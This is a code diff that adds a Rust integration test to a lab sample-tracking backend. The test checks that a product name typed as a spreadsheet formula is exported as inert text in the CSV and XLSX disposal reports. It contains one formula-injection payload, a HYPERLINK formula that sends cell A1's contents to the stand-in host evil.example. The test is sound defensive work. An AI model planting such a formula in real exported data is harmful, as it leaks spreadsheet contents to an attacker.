@@ -12,6 +12,7 @@ pub const TESTS: &[Test] = crate::tests![
     an_assignment_keeps_the_limit_it_copied,
     separation_of_duties_holds_whatever_roles_a_user_has,
     a_signatory_who_entered_any_result_of_a_sample_cannot_approve_it,
+    a_product_name_typed_as_a_formula_is_exported_as_text,
     concurrent_reviews_of_one_test_conflict,
     bad_results_get_4xx_and_write_nothing,
     many_results_are_saved_in_one_go_or_not_at_all,
@@ -459,6 +460,84 @@ fn a_signatory_who_entered_any_result_of_a_sample_cannot_approve_it(b: Backend) 
     assert_eq!(st, 403, "an earlier attempt counts: {e}");
     let (st, r) = approve(&no, &lab.signatory);
     assert_eq!(st, 201, "{r}");
+}
+
+fn a_product_name_typed_as_a_formula_is_exported_as_text(b: Backend) {
+    let app = TestApp::spawn(b);
+    let lab = lab_users(&app);
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    let mut body = crate::intake::sample_body(&lab.intake);
+    body["product_name"] = json!(formula);
+    let (st, v) = app.send("POST", "/api/v1/samples", Some(&lab.intake.token), body);
+    assert_eq!(st, 201, "{v}");
+    let no = v["sample_no"].as_str().unwrap().to_string();
+    let (st, v) = app.send(
+        "POST",
+        "/api/v1/receipts",
+        Some(&lab.custodian),
+        json!({"scan": no, "seal_intact": true, "condition_ok": true}),
+    );
+    assert_eq!(st, 200, "{v}");
+    let item = &ten_max_items(&app, &lab.tech)[0];
+    let (st, tests) = app.send(
+        "POST",
+        &format!("/api/v1/samples/{no}/tests"),
+        Some(&lab.custodian),
+        json!({"assignments": [{"test_item_id": item["id"], "assignee_id": lab.tech_id}]}),
+    );
+    assert_eq!(st, 201, "{tests}");
+    let t = &tests[0];
+    let (_, r) = app.send(
+        "PUT",
+        &format!("/api/v1/tests/{}/result", t["id"]),
+        Some(&lab.tech),
+        json!({"result_text": result_for(t, false), "version": t["version"]}),
+    );
+    let (st, _) = app.send(
+        "POST",
+        &format!("/api/v1/tests/{}/review", t["id"]),
+        Some(&lab.reviewer),
+        json!({"decision": "accept", "version": r["version"]}),
+    );
+    assert_eq!(st, 200);
+    let (st, r) = app.send(
+        "POST",
+        &format!("/api/v1/samples/{no}/approve"),
+        Some(&lab.signatory),
+        json!({}),
+    );
+    assert_eq!(st, 201, "{r}");
+    // The non-compliant sample opened a disposal case; supervisors export the cases.
+    let (st, ct, bytes) = app.bytes("/api/v1/disposals?format=csv", Some(&lab.intake.supervisor));
+    assert_eq!(st, 200);
+    assert!(ct.starts_with("text/csv"), "{ct}");
+    let text = String::from_utf8(bytes).unwrap();
+    let mut rdr =
+        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let header = rdr.headers().unwrap().clone();
+    let col = header.iter().position(|h| h == "product_name").unwrap();
+    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), 1, "{text}");
+    assert_eq!(&rows[0][col], format!("'{formula}").as_str(), "{text}");
+    // The workbook holds it as an inline string, never as a formula.
+    let (st, _, bytes) = app.bytes(
+        "/api/v1/disposals?format=xlsx",
+        Some(&lab.intake.supervisor),
+    );
+    assert_eq!(st, 200);
+    let mut book: calamine::Xlsx<_> =
+        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
+    use calamine::Reader;
+    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
+    assert_eq!(
+        sheet.get_value((1, col as u32)),
+        Some(&calamine::Data::String(formula.to_string()))
+    );
+    let formulas = book.worksheet_formula("disposals").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no formula in the sheet"
+    );
 }
 
 fn concurrent_reviews_of_one_test_conflict(b: Backend) {
